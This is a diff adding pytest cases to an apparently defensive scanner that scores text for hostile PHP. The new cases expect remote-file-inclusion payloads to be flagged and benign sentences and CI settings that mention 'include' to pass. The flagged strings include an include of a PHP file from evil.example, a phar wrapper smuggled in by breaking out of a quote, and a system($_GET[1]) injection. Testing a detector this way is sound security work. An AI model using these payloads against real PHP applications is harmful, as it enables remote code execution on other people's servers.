@@ -322,3 +322,28 @@ def test_what_stands_before_a_parenthesis_hides_nothing(separator: str) -> None:
 
 def test_the_last_of_many_calls_is_seen() -> None:
     assert SUSPECTS.score("exec (a) " * 200 + ";';system($_GET[1]);") >= STOPS
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "include('http://evil.example/x.php')",
+        'require_once("ftp://evil.example/a");',
+        "<?php include 'data:text/plain,x';",
+        "'; include 'phar://up/a.jpg'; //",
+    ],
+)
+def test_php_that_takes_in_an_address_is_stopped(text: str) -> None:
+    assert SUSPECTS.score(text) >= STOPS
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "include: 'https://ci.example/base.yml'",
+        "Please include 'http://shop.example' in the letter to all of them",
+        "prices include 'data' and 'php'",
+    ],
+)
+def test_sentences_and_settings_that_include_addresses_pass(text: str) -> None:
+    assert SUSPECTS.score(text) < STOPS
